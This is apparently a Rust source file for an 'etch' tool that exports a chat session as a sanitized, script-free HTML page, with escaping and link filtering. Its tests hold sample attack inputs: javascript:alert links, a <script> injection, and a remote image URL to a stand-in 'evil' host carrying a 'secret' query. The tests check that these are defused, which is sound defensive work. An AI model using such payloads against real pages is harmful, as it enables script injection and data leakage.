//! `/export html`: a session as one self-contained HTML file (inline
//! styles, no scripts, nothing fetched) with the chat's blocks: prompts,
//! answers rendered from markdown, reasoning, tool calls with their full
//! results and coloured, numbered diffs. Raw HTML in a model's answer is
//! shown as text, never interpreted, so an exported transcript cannot
//! run anything in a browser.

use std::fmt::Write as _;

use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
use serde_json::Value;

use crate::render::blocks::{Block, Level};
use crate::render::tools::{EXPANDED_ROWS, ToolView, summary};

/// The page's styles.
const STYLE: &str = "body{font:15px/1.5 system-ui,sans-serif;max-width:60rem;margin:2rem auto;padding:0 1rem;color:#1f2328;background:#fff}\
.block{margin:1rem 0;padding-left:1.4rem;position:relative}.block:before{content:'•';position:absolute;left:.3rem}\
.user{color:#0a5d8f;white-space:pre-wrap}.thinking{color:#6e7781;font-style:italic;white-space:pre-wrap}\
.tool .head{font-weight:600}.tool.err .head,.notice.error{color:#cf222e}.tool.ok .head{color:#1a7f37}\
pre{background:#f6f8fa;padding:.5rem;overflow-x:auto;font:13px/1.4 ui-monospace,monospace}\
table.diff{border-collapse:collapse;font:13px/1.4 ui-monospace,monospace;width:100%}table.diff td{padding:0 .4rem;white-space:pre}\
td.n{color:#6e7781;text-align:right;user-select:none}tr.add{background:#dafbe1}tr.del{background:#ffebe9}\
.notice{color:#6e7781}.notice.warning{color:#9a6700}.image img{max-width:100%;height:auto;border:1px solid #d0d7de}header{color:#6e7781;border-bottom:1px solid #d0d7de;padding-bottom:.5rem}";

/// The whole active branch of `session` (the runtime's projection) as an
/// HTML page.
pub fn html(session: &etch_protocol::Replay) -> String {
    let mut out = String::new();
    let _ = write!(
        out,
        "<!doctype html>\n<html lang=\"en\"><head><meta charset=\"utf-8\"><title>etch session {}</title><style>{STYLE}</style></head><body>\n",
        escape(&session.session_id)
    );
    let _ = writeln!(
        out,
        "<header>etch session <b>{}</b> · started {} in {} · {}/{}</header>",
        escape(&session.session_id),
        escape(&session.started_at),
        escape(&session.cwd),
        escape(&session.provider),
        escape(&session.model)
    );
    for block in crate::replay::blocks(&session.entries, session.earlier) {
        block_html(&block, &mut out);
    }
    out.push_str("</body></html>\n");
    out
}

/// One block.
fn block_html(block: &Block, out: &mut String) {
    match block {
        Block::User(text) => {
            let _ = writeln!(out, "<div class=\"block user\">{}</div>", escape(text));
        }
        Block::Reasoning(text) => {
            let _ = writeln!(
                out,
                "<div class=\"block thinking\">{}</div>",
                escape(text.trim())
            );
        }
        Block::Assistant(text) | Block::AssistantMore(text) => {
            let _ = writeln!(
                out,
                "<div class=\"block assistant\">{}</div>",
                markdown(text)
            );
        }
        Block::Tools(calls) => {
            for call in calls {
                tool_html(call, out);
            }
        }
        Block::Notice(level, text) => {
            let class = match level {
                Level::Info => "info",
                Level::Warning => "warning",
                Level::Error => "error",
            };
            let _ = writeln!(out, "<p class=\"notice {class}\">{}</p>", escape(text));
        }
        Block::Output(text) | Block::TurnEnd(text) => {
            let _ = writeln!(out, "<pre>{}</pre>", escape(text));
        }
        Block::Header { rows } => {
            let _ = writeln!(out, "<p class=\"notice\">{}</p>", escape(&rows.join(" · ")));
        }
        Block::Images(images) => {
            for image in images {
                image_html(image, out);
            }
        }
    }
}

/// One image, embedded as a `data:` URL when its file is there and holds
/// the bytes the log names; a notice naming the file otherwise.
fn image_html(image: &etch_protocol::ReplayImage, out: &mut String) {
    let loaded = etch_runtime::images::replay_data_url(image);
    match loaded {
        Some(url) => {
            let _ = writeln!(
                out,
                "<div class=\"block image\"><img alt=\"{} {}x{}\" src=\"{}\"></div>",
                escape(&image.media_type),
                image.width,
                image.height,
                escape(&url)
            );
        }
        None => {
            let _ = writeln!(
                out,
                "<p class=\"notice warning\">image {} {}x{} is missing: {}</p>",
                escape(&image.media_type),
                image.width,
                image.height,
                escape(&image.path)
            );
        }
    }
}

/// One tool call with its result or diff.
fn tool_html(call: &ToolView, out: &mut String) {
    let class = if call.is_error { "err" } else { "ok" };
    let _ = write!(
        out,
        "<div class=\"block tool {class}\"><div class=\"head\">{}</div>",
        escape(&summary(&call.name, &call.args))
    );
    let diff = call
        .details
        .as_ref()
        .and_then(|d| d.get("diff"))
        .and_then(Value::as_array);
    if let (Some(rows), false) = (diff, call.is_error) {
        out.push_str("<table class=\"diff\">");
        let (mut old, mut new) = (0u64, 0u64);
        for row in rows {
            let kind = row.get("kind").and_then(Value::as_str).unwrap_or("");
            let text = row.get("text").and_then(Value::as_str).unwrap_or("");
            let (class, a, b, mark) = match kind {
                "header" => continue,
                "hunk" => {
                    let _ = write!(
                        out,
                        "<tr><td class=\"n\"></td><td class=\"n\"></td><td class=\"n\">{}</td></tr>",
                        escape(text)
                    );
                    (old, new) = crate::render::tools::hunk_starts(text);
                    continue;
                }
                "removed" => {
                    old += 1;
                    ("del", old.to_string(), String::new(), "-")
                }
                "added" => {
                    new += 1;
                    ("add", String::new(), new.to_string(), "+")
                }
                "context" => {
                    old += 1;
                    new += 1;
                    ("", old.to_string(), new.to_string(), " ")
                }
                _ => ("", String::new(), String::new(), " "),
            };
            let _ = write!(
                out,
                "<tr class=\"{class}\"><td class=\"n\">{a}</td><td class=\"n\">{b}</td><td>{mark} {}</td></tr>",
                escape(text)
            );
        }
        out.push_str("</table>");
    } else {
        let result = call.result.as_deref().unwrap_or("");
        let lines: Vec<&str> = result.lines().collect();
        let shown = lines
            .iter()
            .take(EXPANDED_ROWS)
            .copied()
            .collect::<Vec<_>>()
            .join("\n");
        let _ = write!(out, "<pre>{}", escape(&shown));
        if lines.len() > EXPANDED_ROWS {
            let _ = write!(
                out,
                "\n… +{} lines (etch show has them)",
                lines.len() - EXPANDED_ROWS
            );
        }
        out.push_str("</pre>");
    }
    out.push_str("</div>\n");
}

/// Markdown as HTML, raw HTML shown as text.
fn markdown(text: &str) -> String {
    let options =
        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    // Raw HTML is text; only http, https and mailto links are links;
    // images become links, so opening the file fetches nothing.
    let events = Parser::new_ext(text, options).map(|event| match event {
        Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
        Event::Start(
            Tag::Link {
                link_type,
                dest_url,
                title,
                id,
            }
            | Tag::Image {
                link_type,
                dest_url,
                title,
                id,
            },
        ) => Event::Start(Tag::Link {
            link_type,
            dest_url: if safe_url(&dest_url) {
                dest_url
            } else {
                "#".into()
            },
            title,
            id,
        }),
        Event::End(TagEnd::Image) => Event::End(TagEnd::Link),
        other => other,
    });
    let mut html = String::new();
    pulldown_cmark::html::push_html(&mut html, events);
    html
}

/// Whether a link may stay a link in an exported page.
fn safe_url(url: &str) -> bool {
    let lower = url.trim().to_ascii_lowercase();
    ["http://", "https://", "mailto:"]
        .iter()
        .any(|scheme| lower.starts_with(scheme))
}

/// Text safe inside HTML elements and attributes.
fn escape(text: &str) -> String {
    let clean = crate::term::sanitize(text);
    let mut out = String::with_capacity(clean.len());
    for c in clean.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Script links and remote images never become live in the page.
    #[test]
    fn unsafe_links_and_images_are_defused() {
        let html = markdown(
            "[x](javascript:alert(1)) <javascript:alert(2)> ![i](https://evil/?q=secret) [ok](https://docs.rs)",
        );
        assert!(!html.contains("href=\"javascript"), "{html}");
        assert!(!html.contains("<img"), "{html}");
        assert!(html.contains("href=\"https://docs.rs\""), "{html}");
    }

    /// Raw HTML from a model is text; markdown is HTML.
    #[test]
    fn model_html_is_escaped() {
        let html = markdown("**bold** <script>alert(1)</script>");
        assert!(html.contains("<strong>bold</strong>"), "{html}");
        assert!(html.contains("&lt;script&gt;"), "{html}");
        assert!(!html.contains("<script>"), "{html}");
    }
}
